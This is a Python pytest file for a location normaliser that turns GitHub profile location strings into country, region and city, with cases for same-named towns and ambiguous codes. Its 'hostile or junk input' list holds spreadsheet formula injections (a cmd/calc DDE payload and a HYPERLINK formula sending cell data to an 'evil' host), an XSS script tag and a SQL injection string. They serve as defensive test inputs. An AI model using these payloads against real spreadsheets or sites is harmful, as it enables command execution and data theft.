"""Free-form GitHub profile locations -> country, region, city (tools.geo)."""

from __future__ import annotations

import time

import pytest

from foundation.regions import region_of
from sandbox.tables import LOCATIONS
from tools.geo import Place, gazetteer, normalize_location

CASES = [
    ("Berlin, Germany", "DE", "Berlin"),
    ("München", "DE", "Munich"),
    ("Munich, Bavaria", "DE", "Munich"),
    ("San Francisco, CA", "US", "San Francisco"),
    ("SF Bay Area", "US", "San Francisco"),
    ("Bay Area", "US", "San Francisco"),
    ("NYC", "US", "New York"),
    ("New York, NY", "US", "New York"),
    ("Seattle, WA, USA", "US", "Seattle"),
    ("Toronto, ON", "CA", "Toronto"),
    ("Montreal, Canada", "CA", "Montreal"),
    ("London, UK", "GB", "London"),
    ("London", "GB", "London"),
    ("London, Ontario", "CA", "London"),
    ("Paris, France", "FR", "Paris"),
    ("Amsterdam", "NL", "Amsterdam"),
    ("Bengaluru, India", "IN", "Bengaluru"),
    ("Bangalore", "IN", "Bengaluru"),
    ("Warsaw, Poland", "PL", "Warsaw"),
    ("Stockholm", "SE", "Stockholm"),
    ("Madrid, Spain", "ES", "Madrid"),
    ("Tokyo, Japan", "JP", "Tokyo"),
    ("São Paulo, Brazil", "BR", "São Paulo"),
    ("Sao Paulo", "BR", "São Paulo"),
    ("Sydney, Australia", "AU", "Sydney"),
    ("Zürich, Switzerland", "CH", "Zurich"),
    ("Zurich", "CH", "Zurich"),
    ("Dublin, Ireland", "IE", "Dublin"),
    ("Austin, TX", "US", "Austin"),
    ("Portland, OR", "US", "Portland"),
    ("Berlin, DE", "DE", "Berlin"),
    ("Atlanta, Georgia", "US", "Atlanta"),
    ("Perth, WA", "AU", "Perth"),
    ("Cambridge, MA", "US", "Cambridge"),
    ("Washington, D.C.", "US", "Washington"),
    ("St. Louis, MO", "US", "St. Louis"),
    ("Tel Aviv-Yafo, Israel", "IL", "Tel Aviv"),
    ("Kraków", "PL", "Kraków"),
    ("Living in Berlin", "DE", "Berlin"),
    ("Berlin / Remote", "DE", "Berlin"),
    ("Germany", "DE", None),
    ("India", "IN", None),
    ("USA", "US", None),
    ("U.S.", "US", None),
    ("United Kingdom", "GB", None),
    ("England", "GB", None),
    ("Deutschland", "DE", None),
    ("España", "ES", None),
    ("Tbilisi, Georgia", "GE", "Tbilisi"),
    ("Wilmington, DE", "US", None),
    ("🇩🇪", "DE", None),
    ("Earth 🇺🇸", "US", None),
    ("Istanbul, Turkey", "TR", "Istanbul"),
]


@pytest.mark.parametrize(("raw", "country", "city"), CASES, ids=[raw for raw, _, _ in CASES])
def test_locations(raw: str, country: str, city: str | None) -> None:
    assert normalize_location(raw) == Place(country=country, region=region_of(country), city=city)


@pytest.mark.parametrize("raw", ["Remote", "Earth", "localhost", "🌍", "", "   ", None, "in the cloud", "turkey"])
def test_unknown_locations(raw: str | None) -> None:
    assert normalize_location(raw) == Place()


# A US state (name or USPS code) or a Canadian province after a city wins over a same-named city
# abroad; a bare well-known name keeps its usual country; what stays ambiguous stays unknown (None).
PLACES = [
    ("Paris, TX", "US", "Paris"),
    ("Paris, Texas", "US", "Paris"),
    ("Paris Texas", "US", "Paris"),
    ("Paris TX", "US", "Paris"),
    ("Paris (TX)", "US", "Paris"),
    ("Paris, TX, USA", "US", "Paris"),
    ("Paris TX 75460", "US", "Paris"),
    ("PARIS, TX", "US", "Paris"),
    ("Paris", "FR", "Paris"),
    ("Berlin, NH", "US", "Berlin"),
    ("Berlin NH", "US", "Berlin"),
    ("Berlin, CT", "US", "Berlin"),
    ("Berlin, WI", "US", "Berlin"),
    ("Berlin", "DE", "Berlin"),
    ("London, ON", "CA", "London"),
    ("London Ontario", "CA", "London"),
    ("London, KY", "US", "London"),
    ("London, England", "GB", "London"),
    ("Moscow, ID", "US", "Moscow"),
    ("Moscow", "RU", "Moscow"),
    ("Dublin, OH", "US", "Dublin"),
    ("Dublin, CA", "US", "Dublin"),
    ("Dublin", "IE", "Dublin"),
    ("Athens, GA", "US", "Athens"),
    ("Athens, Georgia", "US", "Athens"),
    ("Athens", "GR", "Athens"),
    ("Rome, GA", "US", "Rome"),
    ("Rome, NY", "US", "Rome"),
    ("Rome, Italy", "IT", "Rome"),
    ("Birmingham, AL", "US", "Birmingham"),
    ("Birmingham", "GB", "Birmingham"),
    ("Birmingham, UK", "GB", "Birmingham"),
    ("Manchester, NH", "US", "Manchester"),
    ("Manchester", "GB", "Manchester"),
    ("Cambridge, MA", "US", "Cambridge"),
    ("Cambridge", "GB", "Cambridge"),
    ("Hamburg, NY", "US", "Hamburg"),
    ("Hamburg", "DE", "Hamburg"),
    ("Florence, AL", "US", "Florence"),
    ("Florence, SC", "US", "Florence"),
    ("Florence", "IT", "Florence"),
    ("Toledo, OH", "US", "Toledo"),
    ("Toledo, Spain", "ES", "Toledo"),
    ("Toledo", None, None),
    ("Valencia, CA", "US", "Valencia"),
    ("Valencia", "ES", "Valencia"),
    ("Lima, OH", "US", "Lima"),
    ("Lima", "PE", "Lima"),
    ("Alexandria, VA", "US", "Alexandria"),
    ("Alexandria, Egypt", "EG", "Alexandria"),
    ("Alexandria", None, None),
    ("Melbourne, FL", "US", "Melbourne"),
    ("Melbourne, VIC", "AU", "Melbourne"),
    ("Melbourne, Victoria", "AU", "Melbourne"),
    ("Melbourne", "AU", "Melbourne"),
    ("Vancouver, WA", "US", "Vancouver"),
    ("Vancouver, WA, USA", "US", "Vancouver"),
    ("Vancouver, BC", "CA", "Vancouver"),
    ("Vancouver", "CA", "Vancouver"),
    ("Kingston, ON", "CA", "Kingston"),
    ("Kingston, Jamaica", "JM", "Kingston"),
    ("Kingston, NY", "US", "Kingston"),
    ("Kingston", None, None),
    ("Victoria, BC", "CA", "Victoria"),
    ("Victoria BC", "CA", "Victoria"),
    ("Victoria, TX", "US", "Victoria"),
    ("Victoria, Australia", "AU", None),
    ("Victoria", None, None),
    ("Georgia", None, None),
    ("Georgia, USA", "US", None),
    ("Perth, WA", "AU", "Perth"),
    ("Perth, Scotland", "GB", "Perth"),
    ("Sydney, NS", "CA", "Sydney"),
    ("St. Petersburg, FL", "US", "Saint Petersburg"),
    ("Milan, TN", "US", "Milan"),
    ("Porto Alegre, RS", "BR", "Porto Alegre"),
    ("Belgrade, RS", "RS", "Belgrade"),
    ("Toronto, CA", "CA", "Toronto"),
    ("Springfield, IL", "US", None),
    ("Springfield IL", "US", None),
    ("Springfield", None, None),
    ("Hamilton, ON", "CA", None),
    ("Darwin, NT", "AU", "Darwin"),
    ("Kyiv / Berlin, NH", "US", "Berlin"),
    # lone codes: read when they have one meaning and are not words
    ("TX", "US", None),
    ("USA", "US", None),
    ("BC", "CA", None),
    ("DE", None, None),  # Germany or Delaware
    ("IN", None, None),  # India or Indiana
    ("in", None, None),
    ("CA", None, None),  # Canada or California
    ("ME", None, None),  # Montenegro or Maine
    ("WA", None, None),  # Washington or Western Australia
    ("NT", None, None),  # Northwest Territories or Northern Territory
    ("OR", None, None),  # a word
    ("OH", None, None),
    ("🇩🇪 DE", "DE", None),
    # hostile or junk input
    ("=cmd|' /C calc'!A0", None, None),
    ('=HYPERLINK("http://evil/?"&A2,"Click")', None, None),
    ("-2+3+cmd|' /C calc'!A0", None, None),
    ("+49 30 123456", None, None),
    ("<script>alert(1)</script>", None, None),
    ("' OR 1=1 --", None, None),
    ("🔥🔥🔥", None, None),
    ("🏳️‍🌈", None, None),
    ("\u202eXT ,siraP", None, None),
    ("\x00\x00", None, None),
    ("☕ Paris, TX ☕", "US", "Paris"),
    ("=Paris, TX", "US", "Paris"),
]


@pytest.mark.parametrize(("raw", "country", "city"), PLACES, ids=[raw for raw, _, _ in PLACES])
def test_same_named_places_and_ambiguity(raw: str, country: str | None, city: str | None) -> None:
    assert normalize_location(raw) == Place(country=country, region=region_of(country), city=city)


def test_the_place_table_covers_enough() -> None:
    assert len(PLACES) >= 40


@pytest.mark.parametrize(("raw", "country", "city"), [x[:3] for x in LOCATIONS], ids=[str(x[0]) for x in LOCATIONS])
def test_the_sandbox_locations_read_as_their_truth(raw: str | None, country: str | None, city: str | None) -> None:
    """The enricher reads the sandbox's profile locations as the sandbox's ground truth has them."""
    assert normalize_location(raw) == Place(country=country, region=region_of(country), city=city)


def test_huge_locations_are_read_quickly() -> None:
    started = time.perf_counter()
    assert normalize_location.__wrapped__("Paris, TX " * 5000).country == "US"
    assert time.perf_counter() - started < 2.0


def test_region_words_give_a_region_without_country() -> None:
    assert normalize_location("Europe") == Place(region="EUROPE")
    assert normalize_location("EU") == Place(region="EU")


def test_two_letter_words_are_not_codes_in_lowercase() -> None:
    assert normalize_location("in my home office") == Place()


def test_gazetteer_has_every_country_and_many_cities() -> None:
    refs = [ref for meanings in gazetteer().index.entries.values() for ref in meanings]
    assert len({ref.countries[0] for ref in refs if ref.kind == "country"}) >= 240
    assert len({ref.city for ref in refs if ref.kind == "city"}) >= 150


def test_fast_after_the_index_is_built() -> None:
    gazetteer()
    started = time.perf_counter()
    for i in range(2000):
        normalize_location.__wrapped__(f"Seattle, WA, USA {i}")
    assert time.perf_counter() - started < 2.0
